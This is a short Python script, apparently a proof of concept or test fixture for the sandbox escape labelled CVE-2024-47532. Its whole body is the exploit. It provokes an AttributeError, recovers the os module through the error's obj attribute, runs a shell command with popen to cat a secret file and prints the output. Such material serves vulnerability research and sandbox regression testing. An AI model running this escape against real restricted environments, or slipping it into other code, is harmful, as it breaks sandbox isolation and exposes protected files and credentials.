"""AttributeError carries what was asked (CVE-2024-47532)."""
import os
try:
    os.nothing_like_this
except AttributeError as error:
    print(error.obj.popen("cat @SECRET_FILE@").read())
